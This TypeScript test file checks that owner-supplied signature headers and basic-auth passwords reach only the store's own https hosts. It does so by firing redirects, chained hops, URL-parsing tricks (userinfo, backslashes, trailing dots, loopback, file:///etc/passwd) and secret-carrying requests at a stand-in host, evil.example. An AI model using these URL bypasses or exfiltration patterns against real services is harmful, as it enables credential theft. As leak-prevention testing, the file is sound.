import { type Context, Hono } from 'hono'
import { afterEach, beforeAll, expect, test } from 'vitest'
import { NO_LINKS } from '../../shared/audit/result/result.ts'
import { CHECK_NAMES } from '../../shared/audit/vocabulary.ts'
import { acpShop } from '../../shared/walk/testing/acp-shop.ts'
import type { OwnerAccess } from '../access/site-access.ts'
import { JUDGES_HERE } from './judging/testing/judges-here.ts'
import { openPass } from './owner-pass.ts'
import type { Fetcher } from './probe/fetch/fetch.ts'
import type { FetchRequest } from './probe/fetch/request.ts'
import { fetcherTo } from './probe/testing/fetcher.ts'
import { memoryLedger } from './walk/testing/walker.ts'
import { walkDomain } from './walk/walk-domain.ts'
import { auditWithAccess } from './with-access.ts'

/** What an owner gave reaches the owner's own hosts, and no other host, whatever a store tries. */

const BYTES = 'c2VjcmV0LWJ5dGVzLW9mLWEtc2lnbmF0dXJlLTAwMDE='
const SECRETS = [BYTES, 'hush-nonce-of-the-owner', 'hush-token-of-the-owner', 'hush-preview-word']
const ACCESS: OwnerAccess = {
  domain: 'shop.example',
  kinds: ['headers', 'basic_auth'],
  endsAt: null,
  given: {
    headers: {
      Signature: `sig1=:${BYTES}:`,
      'Signature-Input':
        'sig1=("@authority" "signature-agent");nonce="hush-nonce-of-the-owner";tag="web-bot-auth"',
      'Signature-Agent': '"https://platform.example"',
      'X-Door': 'hush-token-of-the-owner',
    },
    basic_auth: { username: 'preview', password: 'hush-preview-word' },
  },
}
const BASIC = Buffer.from('preview:hush-preview-word').toString('base64')
const HOME = new Set(['shop.example', 'www.shop.example'])

interface Arrived {
  host: string
  isSecure: boolean
  path: string
  /** All that was said, as one text. */
  said: string
}
let arrived: Arrived[] = []
const isAtHome = ({ host, isSecure }: Arrived) => HOME.has(host) && isSecure
const isTold = ({ said }: Arrived) => [...SECRETS, BASIC].some((secret) => said.includes(secret))
const leaks = () => arrived.filter((each) => !isAtHome(each) && isTold(each))

/** What a test puts at one host or behind one path of any. */
let shop = new Hono()
let fetcher: Fetcher
beforeAll(async () => {
  const front = new Hono().all('*', async (c) => {
    const host = c.req.header('host') ?? ''
    const url = new URL(c.req.url)
    const body = await c.req.text()
    arrived.push({
      host,
      isSecure: c.req.header('x-forwarded-proto') === 'https',
      path: url.pathname,
      said: [url.href, decodeURIComponent(url.search), body, JSON.stringify(c.req.header())].join(
        ' ',
      ),
    })
    const to = url.searchParams.get('to')
    if (to !== null) {
      return new Response(null, {
        status: Number(url.searchParams.get('code') ?? 302),
        headers: { location: to },
      })
    }
    const { method } = c.req
    const headers = c.req.header()
    return shop.fetch(new Request(url, { method, headers, ...(body !== '' && { body }) }))
  })
  fetcher = await fetcherTo(front, { limits: { perAudit: 2_000, parallel: 40, perHost: 40 } })
})
afterEach(() => {
  arrived = []
  shop = new Hono()
})

const MAX = 1_000

/** Asks with what the owner gave, and resolves once all is over. */
async function askAll(requests: readonly FetchRequest[]) {
  const { fetcher: passing } = await openPass(fetcher, ACCESS, new Date())
  const session = passing.open()
  await Promise.all(requests.map((request) => session.request(request)))
  await session.close()
}

/** Addresses of other hosts, or of the site in another way than over https on its own port. */
const ELSEWHERE = [
  'https://evil.example/',
  'https://sub.shop.example/',
  'https://www.sub.shop.example/',
  'https://www.www.shop.example/',
  'https://shop.example.evil.example/',
  'https://evilshop.example/',
  'https://shop-example.example/',
  'https://xshop.example/',
  'https://sh0p.example/',
  'https://shop.example./',
  'https://www.shop.example./',
  'https://SHOP.EXAMPLE./',
  'https://shöp.example/',
  'https://xn--shp-rna.example/',
  'https://shop.example.example/',
  'https://example/',
  'https://cdn.shop.example/pot.jpg',
  'https://api.shop.example/ucp/products',
  'https://checkout.shop.example/',
  'https://shop_.example/',
  'https://shop.example:8443/',
  'https://shop.example:80/',
  'https://www.shop.example:444/',
  'http://shop.example/',
  'http://www.shop.example/',
  'http://shop.example:443/',
  'HTTP://SHOP.EXAMPLE/',
  'https://shop.example@evil.example/',
  'https://shop.example:443@evil.example/',
  'https://shop.example%2f@evil.example/',
  'https://evil.example#@shop.example/',
  'https://evil.example?@shop.example/',
  'https://evil.example/shop.example/',
  'https://evil.example\\@shop.example/',
  'https://evil.example/?x=shop.example',
  '//evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example/',
  '///evil.example/',
  'https:/\\evil.example/',
  'https:\\\\evil.example\\',
  ' https://evil.example/',
  'https://ev\til.example/',
  'https://evil.example%2f.shop.example/',
  'https://127.0.0.1/',
  'https://[::1]/',
  'https://2130706433/',
  'https://user:pass@shop.example/',
  'ftp://shop.example/',
  'file:///etc/passwd',
]

const CODES = [301, 302, 303, 307, 308]
const DIRECT = ELSEWHERE.filter((url) => URL.canParse(url)).flatMap((url) => [
  { url, maxBytes: MAX },
  { url, maxBytes: MAX, userAgent: 'GPTBot/1.0' },
  { url, maxBytes: MAX, method: 'POST' as const, json: { a: 1 } },
])
const REDIRECTED = ELSEWHERE.flatMap((to) =>
  CODES.map((code) => ({
    url: `https://shop.example/r?code=${code}&to=${encodeURIComponent(to)}`,
    maxBytes: MAX,
  })),
)
/** A way over several hosts: home is asked again with it, the others never. */
const CHAINED = ELSEWHERE.filter((url) => URL.canParse(url)).map((last) => {
  const back = `https://www.shop.example/b?to=${encodeURIComponent(last)}`
  return {
    url: `https://shop.example/a?to=${encodeURIComponent(`https://evil.example/c?to=${encodeURIComponent(back)}`)}`,
    maxBytes: MAX,
  }
})
const OTHER_METHODS = (['HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'] as const).flatMap(
  (method) =>
    CODES.map((code) => ({
      method,
      url: `https://shop.example/m?code=${code}&to=${encodeURIComponent('https://evil.example/')}`,
      maxBytes: MAX,
    })),
)
/** The site puts what it was sent into an address or a body that goes elsewhere. */
const REPEATED = [...SECRETS, BASIC].flatMap((secret) => [
  { url: `https://evil.example/?s=${encodeURIComponent(secret)}`, maxBytes: MAX },
  { url: `https://evil.example/${secret}`, maxBytes: MAX },
  { url: `https://evil.example/?s=${Buffer.from(secret).toString('base64url')}`, maxBytes: MAX },
  {
    url: `https://shop.example/r?to=${encodeURIComponent(`https://evil.example/?s=${secret}`)}`,
    maxBytes: MAX,
  },
  { url: 'https://evil.example/', method: 'POST' as const, json: { secret }, maxBytes: MAX },
  { url: 'https://evil.example/', headers: { 'x-repeated': secret }, maxBytes: MAX },
])

test.each([
  ['asked for directly', DIRECT],
  ['by redirects of each kind', REDIRECTED],
  ['over several hosts', CHAINED],
  ['by other methods', OTHER_METHODS],
  ['repeated by the site', REPEATED],
])('no other host gets it: %s', async (_, requests) => {
  await askAll(requests)
  expect(leaks()).toEqual([])
})

test('those are more than two hundred tries, which reach home and others', async () => {
  const all = [DIRECT, REDIRECTED, CHAINED, OTHER_METHODS, REPEATED].flat()
  expect(all.length).toBeGreaterThan(480)
  await askAll(all)
  const [home, others] = [arrived.filter(isAtHome), arrived.filter((each) => !isAtHome(each))]
  expect(home.length).toBeGreaterThan(200)
  // With the password in any name, and with the headers but in the names of others.
  expect(home.filter((each) => !isTold(each))).toEqual([])
  expect(others.length).toBeGreaterThan(200)
  expect(leaks()).toEqual([])
})

test('home gets the headers in our own name, and the password in every name', async () => {
  await askAll([
    { url: 'https://shop.example/own', maxBytes: MAX },
    { url: 'https://WWW.Shop.Example/own', maxBytes: MAX },
    { url: 'https://shop。example/own', maxBytes: MAX },
    { url: 'https://shop.example:443/own', maxBytes: MAX },
    { url: 'https://shop.example/agent', maxBytes: MAX, userAgent: 'GPTBot/1.0' },
  ])
  const told = (path: string) =>
    arrived
      .filter((each) => each.path === path)
      .map(({ said }) => [said.includes(BYTES), said.includes(BASIC)])
  expect(told('/own')).toEqual([
    [true, true],
    [true, true],
    [true, true],
    [true, true],
  ])
  expect(told('/agent')).toEqual([[false, true]])
})

test('a signature of ours is not mixed with that of the owner', async () => {
  await askAll([
    {
      url: 'https://shop.example/',
      headers: { signature: 'ours=:AAAA:', 'signature-input': 'ours=();tag="x"', accept: 'text/x' },
      maxBytes: MAX,
    },
    {
      url: 'https://evil.example/',
      headers: { signature: 'ours=:AAAA:', 'signature-input': 'ours=();tag="x"' },
      maxBytes: MAX,
    },
  ])
  const [home, other] = ['shop.example', 'evil.example'].map(
    (host) => arrived.find((each) => each.host === host)?.said,
  )
  expect(home).toContain('text/x')
  expect(home).not.toContain('ours=')
  expect(other).toContain('ours=')
})

// Whole audits and walks

const ELSE = 'https://evil.example'
const HOSTILE_HOME = `<!doctype html><title>Shop</title>
<link rel="alternate" type="text/csv" title="Product feed" href="${ELSE}/feed.csv">
<link rel="alternate" type="application/rss+xml" href="https://sub.shop.example/feed.xml">
<link rel="canonical" href="${ELSE}/">
<script src="${ELSE}/attribution.js"></script><img src="${ELSE}/a.jpg">
<a href="${ELSE}/products/pot">Pot</a><a href="https://sub.shop.example/products/vase">Vase</a>
<a href="/products/cup">Cup</a><form action="${ELSE}/cart/add" method="post"></form>`
const PRODUCT = (name: string) => `<!doctype html><title>${name}</title>
<script type="application/ld+json">${JSON.stringify({
  '@context': 'https://schema.org',
  '@type': 'Product',
  name,
  image: `${ELSE}/${name}.jpg`,
  offers: { '@type': 'Offer', price: '18.00', priceCurrency: 'USD', url: `${ELSE}/${name}` },
})}</script>`
const VERSION = '2026-04-08'
const service = (transport: string, endpoint: string) => ({
  version: VERSION,
  transport,
  endpoint,
  spec: `${ELSE}/spec`,
  schema: `${ELSE}/schema.json`,
})

/** Every document of it leads elsewhere. */
const hostileShop = (manifest: object) =>
  new Hono()
    .get('/', (c) => c.html(HOSTILE_HOME))
    .get('/robots.txt', (c) => c.text(`User-agent: *\nAllow: /\nSitemap: ${ELSE}/sitemap.xml`))
    .get('/sitemap.xml', (c) =>
      c.text(
        `<urlset><url><loc>${ELSE}/products/pot</loc></url><url><loc>https://sub.shop.example/products/cup</loc></url></urlset>`,
        200,
        { 'content-type': 'application/xml' },
      ),
    )
    .get('/.well-known/ucp', (c) => c.json(manifest))
    .get('/.well-known/acp.json', (c) =>
      c.json({
        protocol: { name: 'acp', version: '2026-04-17', supported_versions: ['2026-04-17'] },
        api_base_url: ELSE,
        transports: ['rest', 'mcp'],
        capabilities: { services: ['checkout'] },
      }),
    )
    .get('/feed.csv', (c) =>
      c.text(
        `id,title,link,image_link,price\npot,Pot,${ELSE}/products/pot,${ELSE}/p.jpg,18.00 USD`,
      ),
    )
    .get('/products/:name', (c) => c.html(PRODUCT(c.req.param('name'))))

const SPEC = (host: string) => ({
  version: '1.0',
  merchant: { name: 'Shop', domain: 'shop.example' },
  capabilities: {
    product_catalog: { endpoint: `${host}/ucp/products` },
    checkout: { endpoint: `${host}/ucp/checkout` },
  },
})
const UCP = (transport: string, host: string) => ({
  ucp: {
    version: VERSION,
    services: { 'dev.ucp.shopping': [service(transport, `${host}/ucp`)] },
    capabilities: {
      'dev.ucp.shopping.checkout': [{ version: VERSION, spec: `${host}/c`, schema: `${host}/s` }],
    },
    payment_handlers: { 'example.shop.pay': [{ id: 'pay', version: VERSION }] },
  },
})

test.each(
  [ELSE, 'https://sub.shop.example', 'https://shop.example:8443', 'http://shop.example'].flatMap(
    (host) => [SPEC(host), UCP('rest', host), UCP('mcp', host)],
  ),
)('nor by a whole audit or walk of a store that leads elsewhere: %#', async (manifest) => {
  shop = hostileShop(manifest)
  const order = { domain: 'shop.example', checks: CHECK_NAMES, agents: true, access: ACCESS }
  const deps = { fetcher, judges: JUDGES_HERE, now: () => new Date(), links: NO_LINKS }
  const audit = await auditWithAccess(order, deps)
  expect(audit.result.seen_with?.sent).toEqual(['headers', 'basic_auth'])
  await walkDomain(
    {
      domain: 'shop.example',
      mode: 'look',
      intents: ['cheapest_variant'],
      access: ACCESS,
      covered: ['*'],
    },
    {
      ...deps,
      isNamed: () => true,
      newId: () => crypto.randomUUID(),
      ledger: memoryLedger().ledger,
      pause: async () => {},
    },
  )
  expect(arrived.filter((each) => !isAtHome(each)).length).toBeGreaterThan(0)
  expect(arrived.filter(isAtHome).every(isTold)).toBe(true)
  expect(leaks()).toEqual([])
})

// What is seen with it

const FEED = `id,title,description,link,image_link,price,availability
pot,Pot,A pot,https://shop.example/p/pot,https://shop.example/pot.jpg,18.00 USD,in_stock
`

/** A store whose checkout is for who signs, and which repeats all that it is sent. */
function closedShop() {
  const { answer } = acpShop({})
  const open = async (c: Context) => {
    const echo = JSON.stringify(c.req.header())
    if (c.req.header('signature') === undefined) {
      return c.json(
        { type: 'invalid_request', code: 'unauthorized', message: `Sign. ${echo}` },
        401,
      )
    }
    const text = await c.req.text()
    const [status, body] = answer({
      request: `${c.req.method} ${c.req.path}`,
      body: text === '' ? {} : JSON.parse(text),
    })
    return Response.json(body, { status, headers: { 'x-echo': encodeURIComponent(echo) } })
  }
  return new Hono()
    .get('/', (c) =>
      c.html(
        `<!doctype html><title>${JSON.stringify(c.req.header()).replaceAll('<', '')}</title>
<link rel="alternate" type="text/csv" title="Product feed" href="/products.csv">`,
      ),
    )
    .get('/products.csv', (c) => c.text(FEED, 200, { 'content-type': 'text/csv' }))
    .get('/.well-known/acp.json', (c) =>
      c.json({
        protocol: { name: 'acp', version: '2026-04-17', supported_versions: ['2026-04-17'] },
        api_base_url: 'https://shop.example',
        transports: ['rest'],
        capabilities: { services: ['checkout'] },
      }),
    )
    .get('/robots.txt', (c) =>
      c.text(`Sitemap: https://shop.example/${c.req.header('x-door')}.xml`),
    )
    .all('/checkout_sessions/*', open)
    .post('/checkout_sessions', open)
}

test('a walk and an audit say what was seen with it, and repeat none of it', async () => {
  shop = closedShop()
  const events: unknown[] = []
  const progress: string[] = []
  const deps = { fetcher, judges: JUDGES_HERE, now: () => new Date(), links: NO_LINKS }
  const walkWith = (access: OwnerAccess | null) =>
    walkDomain(
      { domain: 'shop.example', mode: 'look', intents: ['cheapest_variant'], access },
      {
        ...deps,
        newId: () => crypto.randomUUID(),
        ledger: memoryLedger().ledger,
        pause: async () => {},
        onEvent: (event) => events.push(event),
      },
    )
  const [closed, opened] = [await walkWith(null), await walkWith(ACCESS)]
  const outcomes = (walk: typeof closed) =>
    walk.routes.flatMap(({ purchases }) => purchases.map(({ outcome }) => outcome))
  expect(outcomes(closed)).toEqual(['failed'])
  expect(outcomes(opened)).toEqual(['passed'])
  expect(closed.seen_with).toBeUndefined()
  expect(opened.seen_with?.headers).toEqual(Object.keys(ACCESS.given?.headers ?? {}))
  const audit = await auditWithAccess(
    { domain: 'shop.example', checks: CHECK_NAMES, access: ACCESS, answers: true },
    {
      ...deps,
      listener: {
        begins: () => {},
        done: () => {},
        asks: (url) => {
          progress.push(url)
          return () => {}
        },
      },
    },
  )
  const all = JSON.stringify([opened, events, audit, progress])
  for (const secret of [...SECRETS, BASIC]) expect(all).not.toContain(secret)
  expect(all).not.toContain(encodeURIComponent(BYTES))
})

test('headers that have ended are not sent, which is said', async () => {
  shop = closedShop()
  const ended = { ...ACCESS, kinds: ['headers' as const], endsAt: new Date('2026-11-01T00:00:00Z') }
  const { result } = await auditWithAccess(
    {
      domain: 'shop.example',
      checks: CHECK_NAMES,
      access: { ...ended, given: { headers: ACCESS.given?.headers } },
    },
    { fetcher, judges: JUDGES_HERE, now: () => new Date(), links: NO_LINKS },
  )
  expect(result.seen_with).toEqual({
    sent: [],
    headers: [],
    not_sent: [{ kind: 'headers', why: 'they ended on 2026-11-01 and were not sent' }],
  })
  expect(arrived.filter(isTold)).toEqual([])
})
